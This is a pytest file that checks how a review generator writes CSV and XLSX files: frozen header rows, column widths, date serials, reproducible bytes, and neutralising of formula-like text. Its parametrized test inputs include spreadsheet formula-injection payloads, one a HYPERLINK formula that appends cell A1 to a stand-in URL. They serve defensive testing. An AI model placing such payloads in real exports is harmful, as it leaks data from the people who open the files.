"""The reviews' CSV and XLSX: what a spreadsheet opens, read back from the files' own XML."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest

from generator.review import csv_bytes, xlsx_bytes

HEADER = ["department", "review_by", "departures", "reason"]
ROWS = [["Department for Work and Pensions", dt.date(2027, 3, 1), 4,
         "=HYPERLINK(\"http://example.com\") " + "a long reason " * 20],
        ["Department of Finance", dt.date(2025, 1, 31), 0, None]]


def sheet(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode("utf-8")


def shared_strings(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        text = book.read("xl/sharedStrings.xml").decode("utf-8")
    return re.findall(r"<t[^>]*>([^<]*)</t>", text)


def test_the_header_row_is_frozen_and_filtered_and_the_columns_sized() -> None:
    xml = sheet(xlsx_bytes("Dashboard", HEADER, ROWS, dt.date(2026, 12, 7)))
    assert 'ySplit="1"' in xml and 'state="frozen"' in xml
    assert '<autoFilter ref="A1:D3"/>' in xml
    # <col min max width>: neighbouring columns of one width are one element
    widths = [float(w) for low, high, w in
              re.findall(r'<col min="(\d+)" max="(\d+)" width="([\d.]+)"', xml)
              for _ in range(int(low), int(high) + 1)]
    assert len(widths) == 4
    assert widths[0] > widths[2]  # a department's name is wider than a count
    assert max(widths) <= 61  # a long reason wraps rather than run off the screen


def test_text_that_looks_like_a_formula_stays_text_and_dates_are_dates() -> None:
    data = xlsx_bytes("Register", HEADER, ROWS, dt.date(2026, 12, 7))
    xml = sheet(data)
    assert "<f>" not in xml  # a reason beginning "=" is never run as a formula
    assert any(s.startswith("=HYPERLINK") for s in shared_strings(data))
    # 2027-03-01 as a spreadsheet date (days since 1899-12-30), not as text
    assert "<v>46447</v>" in xml


def test_the_same_rows_give_the_same_bytes() -> None:
    first = xlsx_bytes("Dashboard", HEADER, ROWS, dt.date(2026, 12, 7))
    assert first == xlsx_bytes("Dashboard", HEADER, ROWS, dt.date(2026, 12, 7))
    assert first != xlsx_bytes("Dashboard", HEADER, ROWS, dt.date(2026, 12, 8))


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://example.com/?"&A1,"x")', "+1+2",
                                     "-2+3", "@SUM(1)", "\t=1+2", "\r=1+2"])
def test_csv_keeps_text_that_looks_like_a_formula_as_text(hostile: str) -> None:
    """A reason or a reviewer's name is anyone's text: in the CSV it starts with an
    apostrophe, so a spreadsheet shows it and never runs it."""
    rows = list(csv.reader(io.StringIO(csv_bytes(["reason", "count"], [[hostile, -3]])
                                       .decode("utf-8"))))
    assert rows[1] == ["'" + hostile.replace("\r", "\n"), "-3"]  # our number stays one


def test_csv_has_the_same_rows_with_iso_dates_and_empty_cells() -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(HEADER, ROWS).decode("utf-8"))))
    assert rows[0] == HEADER
    assert rows[1][:3] == ["Department for Work and Pensions", "2027-03-01", "4"]
    assert rows[2] == ["Department of Finance", "2025-01-31", "0", ""]
